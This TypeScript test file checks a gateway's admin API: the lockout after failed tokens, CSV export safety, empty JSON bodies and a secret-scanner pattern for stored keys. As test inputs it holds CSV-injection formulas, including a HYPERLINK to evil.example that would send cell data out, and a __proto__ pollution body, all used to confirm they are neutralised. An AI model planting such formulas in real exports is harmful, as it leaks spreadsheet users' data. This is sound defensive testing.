// The admin API where an operator must be able to trust it (issue 23): the lockout never locks
// the right token out and starts after exactly the documented ten failures; a CSV export never
// hands a spreadsheet a formula; an empty body with a JSON content type is no body; and the
// embedded store's file holds nothing a secret scanner takes for a gateway secret.
import { mkdtempSync, readFileSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFixtureExplorer, type FixtureExplorer } from '../../fixture/explorer.js';
import { usageCsv } from '../../src/admin/routes/records.js';
import type { UsageItem } from '../../src/admin/service.js';
import type { ConfigInput } from '../../src/config/schema.js';
import { adminClient, ADMIN_TOKEN } from '../support/admin.js';
import { ADDRESS, makeConfig, startGateway, type TestGateway } from '../support/gateway.js';

const BALANCES = `/1/api/v2/addresses/${ADDRESS}/token-balances`;
/** The pattern docs/operator-guide.md gives secret scanners. */
const SCANNER = /egw_[A-Za-z0-9]{43}/;

interface KeyView {
  id: string;
  name: string;
  prefix: string | null;
  key?: string;
}

let explorer: FixtureExplorer;
beforeAll(async () => {
  explorer = await startFixtureExplorer();
});
afterAll(async () => {
  await explorer.close();
});

function adminConfig(extra: Partial<ConfigInput> = {}) {
  return makeConfig([explorer.url], { admin: { token: ADMIN_TOKEN, host: '127.0.0.1', port: 0 }, ...extra });
}

async function withGateway<T>(extra: Partial<ConfigInput>, run: (gw: TestGateway) => Promise<T>): Promise<T> {
  const gw = await startGateway(adminConfig(extra));
  try {
    return await run(gw);
  } finally {
    await gw.close();
  }
}

describe('admin lockout', () => {
  it('serves the right token from a locked address; wrong or missing tokens get 429 after exactly ten failures', async () => {
    await withGateway({}, async (gw) => {
      const base = () => gw.app.gateway.adminUrl()!;
      const admin = adminClient(base);
      const wrong = adminClient(base, 'not-the-admin-token-at-all');
      // Ten failures in the minute: each is a 401.
      for (let i = 0; i < 10; i++) expect((await wrong.get('/keys')).status, `failure ${i + 1}`).toBe(401);
      // The eleventh wrong token: refused for the lockout, with how long it lasts.
      const locked = await fetch(`${base()}/keys`, { headers: { authorization: 'Bearer not-the-admin-token-at-all' } });
      expect(locked.status).toBe(429);
      const retryAfter = Number(locked.headers.get('retry-after'));
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(300);
      expect(await locked.json()).toEqual({ message: 'Too many failed admin authentications from this address; try again later' });
      const none = await fetch(`${base()}/keys`);
      expect(none.status).toBe(429);
      expect(Number(none.headers.get('retry-after'))).toBeGreaterThan(0);
      // The operator's token is served from the locked address, reads and writes alike.
      expect((await admin.get('/plans')).status).toBe(200);
      const created = await admin.post<KeyView>('/keys', { name: 'from-a-locked-address', plan: 'free' });
      expect(created.status).toBe(201);
      // And serving it did not lift the lockout for the wrong ones.
      expect((await wrong.get('/keys')).status).toBe(429);
    });
  });
});

describe('usage CSV', () => {
  const row = (over: Partial<UsageItem>): UsageItem => ({
    day: '2026-11-01',
    key: 'key_aaaaaaaaaaaaaaaa',
    name: 'acme',
    account: '',
    chain: '1',
    route: 'token-balances',
    requests: 3,
    credits: 40,
    cacheHits: 1,
    refused: 0,
    rateLimited: 0,
    outOfCredits: 0,
    forbidden: 0,
    clientErrors: 0,
    errors: 0,
    ...over,
  });
  const cells = (csv: string) => csv.split('\r\n')[1]!;

  it('neutralises every string cell a spreadsheet would read as a formula (OWASP CSV Injection)', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const line = cells(usageCsv([row({ name: `${lead}HYPERLINK("http://x.example/?"&A1,"y")` })]));
      const name = `"'${lead}HYPERLINK(""http://x.example/?""&A1,""y"")"`;
      expect(line).toBe(`2026-11-01,key_aaaaaaaaaaaaaaaa,${name},1,token-balances,3,40,1,0,0,0,0,0,0,`);
    }
    expect(cells(usageCsv([row({ key: '=1+1', chain: '+1', route: '@SUM(A1)' })]))).toBe(
      `2026-11-01,"'=1+1",acme,"'+1","'@SUM(A1)",3,40,1,0,0,0,0,0,0,`,
    );
    // A semicolon starts a cell for spreadsheets set to split on it: such a cell is quoted.
    expect(cells(usageCsv([row({ name: 'a;=1+1' })]))).toBe(
      `2026-11-01,key_aaaaaaaaaaaaaaaa,"a;=1+1",1,token-balances,3,40,1,0,0,0,0,0,0,`,
    );
  });

  it('leaves numbers numbers, negative ones included, and plain names as they were', () => {
    expect(cells(usageCsv([row({ credits: -20, requests: 0, errors: 1 })]))).toBe(
      '2026-11-01,key_aaaaaaaaaaaaaaaa,acme,1,token-balances,0,-20,1,0,0,0,0,0,1,',
    );
    expect(cells(usageCsv([row({ name: null })]))).toBe('2026-11-01,key_aaaaaaaaaaaaaaaa,,1,token-balances,3,40,1,0,0,0,0,0,0,');
    expect(cells(usageCsv([row({ name: 'a-b c@d' })]))).toBe(
      '2026-11-01,key_aaaaaaaaaaaaaaaa,a-b c@d,1,token-balances,3,40,1,0,0,0,0,0,0,',
    );
  });

  it('hourly CSV has the hour after the day; the account, last, is neutralised as every text cell is', () => {
    const csv = usageCsv([row({ hour: '2026-11-01T13:00:00Z', account: '=acc' })], true);
    expect(csv.split('\r\n')[0]).toBe(
      'day,hour,key,name,chain,route,requests,credits,cacheHits,refused,rateLimited,outOfCredits,forbidden,clientErrors,errors,account',
    );
    expect(cells(csv)).toBe(`2026-11-01,2026-11-01T13:00:00Z,key_aaaaaaaaaaaaaaaa,acme,1,token-balances,3,40,1,0,0,0,0,0,0,"'=acc"`);
    expect(cells(usageCsv([row({ account: 'acc_abc' })]))).toMatch(/,acc_abc$/);
  });

  it('a key named as a formula is exported as text by GET /usage?format=csv', async () => {
    await withGateway({}, async (gw) => {
      const admin = adminClient(() => gw.app.gateway.adminUrl()!);
      const name = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      const k = await admin.post<KeyView>('/keys', { name, plan: 'free' });
      expect(k.status).toBe(201);
      expect((await gw.get(BALANCES, { key: k.body.key! })).status).toBe(200);
      const csv = await admin.get<string>(`/usage?key=${k.body.id}&format=csv`);
      expect(csv.status).toBe(200);
      expect(csv.body).toContain(`,${k.body.id},"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",1,token-balances,1,`);
      expect(csv.body).not.toMatch(/(^|,)=HYPERLINK/m);
    });
  });
});

describe('an empty body with a JSON content type', () => {
  it('is no body on every admin route: DELETE revokes, roll takes its defaults, create names the missing fields', async () => {
    await withGateway({}, async (gw) => {
      const admin = adminClient(() => gw.app.gateway.adminUrl()!);
      const json = { 'content-type': 'application/json' };
      const k = (await admin.post<KeyView>('/keys', { name: 'short-lived', plan: 'free' })).body;
      const other = (await admin.post<KeyView>('/keys', { name: 'rolled', plan: 'free' })).body;
      expect((await gw.get(BALANCES, { key: k.key! })).status).toBe(200);

      const revoked = await admin.call('DELETE', `/keys/${k.id}`, undefined, json);
      expect(revoked).toEqual({ status: 200, body: { id: k.id, revoked: true } });
      expect((await gw.get(BALANCES, { key: k.key! })).status).toBe(401);
      expect((await admin.get(`/keys/${k.id}`)).status).toBe(404);

      const rolled = await admin.call<KeyView>('POST', `/keys/${other.id}/roll`, undefined, {
        'content-type': 'application/json; charset=utf-8',
      });
      expect(rolled.status).toBe(200);
      expect(rolled.body.key).not.toBe(other.key);
      expect((await gw.get(BALANCES, { key: other.key! })).status).toBe(401);

      const created = await admin.call('POST', '/keys', undefined, json);
      expect(created.status).toBe(422);
      expect(String(created.body.message)).toMatch(/name/);
      expect((await admin.call('PATCH', `/keys/${other.id}`, undefined, json)).status).toBe(422);
      expect((await admin.call('GET', '/plans', undefined, json)).status).toBe(200);
    });
  });

  it('a body that is not JSON, or poisons a prototype, is still a 400', async () => {
    await withGateway({}, async (gw) => {
      const admin = adminClient(() => gw.app.gateway.adminUrl()!);
      const k = (await admin.post<KeyView>('/keys', { name: 'kept', plan: 'free' })).body;
      const send = (body: string) =>
        fetch(`${gw.app.gateway.adminUrl()}/keys/${k.id}`, {
          method: 'PATCH',
          headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'application/json' },
          body,
        });
      expect((await send('{"plan":')).status).toBe(400);
      expect((await send('{"__proto__":{"plan":"free"}}')).status).toBe(400);
      expect((await send(' ')).status).toBe(400);
      expect((await admin.get<KeyView>(`/keys/${k.id}`)).status).toBe(200);
    });
  });
});

describe('the stored key prefix', () => {
  const scannerMatches = (dir: string) =>
    readdirSync(dir).flatMap((f) => {
      const text = readFileSync(join(dir, f)).toString('latin1');
      return [...text.matchAll(new RegExp(SCANNER.source, 'g'))].map((m) => `${f}: ${m[0]}`);
    });

  it('forms no match of egw_[A-Za-z0-9]{43} in the SQLite file or its -wal, and reads as the secret’s start', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'egw-prefix-'));
    const storage = { path: join(dir, 'gateway.db') };
    const keys: KeyView[] = [];
    await withGateway({ storage }, async (gw) => {
      const admin = adminClient(() => gw.app.gateway.adminUrl()!);
      for (let i = 0; i < 25; i++) {
        const k = await admin.post<KeyView>('/keys', { name: `customer-${i}`, plan: 'free', owner: `owner-${i}` });
        expect(k.status).toBe(201);
        keys.push(k.body);
      }
      for (const k of keys.slice(0, 5)) expect((await admin.post(`/keys/${k.id}/roll`, { graceSeconds: 60 })).status).toBe(200);
      for (const k of keys.slice(5, 8)) expect((await admin.patch(`/keys/${k.id}`, { plan: 'free', owner: 'moved' })).status).toBe(200);
      expect(readdirSync(dir)).toContain('gateway.db-wal');
      expect(scannerMatches(dir)).toEqual([]);
      const k = keys[10]!;
      // Operators tell keys apart by the secret's first twelve characters.
      expect(k.prefix).toBe(`${k.key!.slice(0, 12)}…`);
    });
    // Closed (the -wal checkpointed into the file): still none.
    expect(scannerMatches(dir)).toEqual([]);
  });

  it('keys written the old way (the prefix alone) are still read, shown in the new shape, and work', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'egw-prefix-old-'));
    const storage = { path: join(dir, 'gateway.db') };
    const k = await withGateway({ storage }, async (gw) => {
      const admin = adminClient(() => gw.app.gateway.adminUrl()!);
      return (await admin.post<KeyView>('/keys', { name: 'old-style', plan: 'free' })).body;
    });
    const db = new Database(storage.path);
    // As a gateway before this change stored it: `egw_` and the 8 characters, nothing after.
    db.prepare('UPDATE keys SET prefix = ? WHERE id = ?').run(k.key!.slice(0, 12), k.id);
    db.close();
    await withGateway({ storage }, async (gw) => {
      const admin = adminClient(() => gw.app.gateway.adminUrl()!);
      const shown = await admin.get<KeyView>(`/keys/${k.id}`);
      expect(shown.status).toBe(200);
      expect(shown.body.prefix).toBe(`${k.key!.slice(0, 12)}…`);
      expect((await gw.get(BALANCES, { key: k.key! })).status).toBe(200);
    });
  });
});
